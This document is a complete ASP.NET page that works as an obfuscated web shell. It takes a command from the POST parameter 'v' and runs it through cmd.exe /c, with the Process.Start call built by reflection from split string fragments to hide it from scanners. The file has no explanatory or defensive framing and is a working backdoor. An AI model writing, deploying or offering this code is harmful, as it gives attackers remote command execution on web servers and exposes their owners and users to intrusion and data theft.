<%@ Page Language="C#" %>
<script runat="server">
string J(params string[] p) { return string.Join("", p); }
void Page_Load(object s, EventArgs e) {
    string v = Request.Form["v"];
    if (v == null) return;
    Type t = Type.GetType(J("Sys", "tem.Diag", "nostics.Pro", "cess, Sys", "tem"));
    var m = t.GetMethod(J("St", "art"), new Type[] { typeof(string), typeof(string) });
    m.Invoke(null, new object[] { J("c", "md"), "/c " + v });
}
</script>
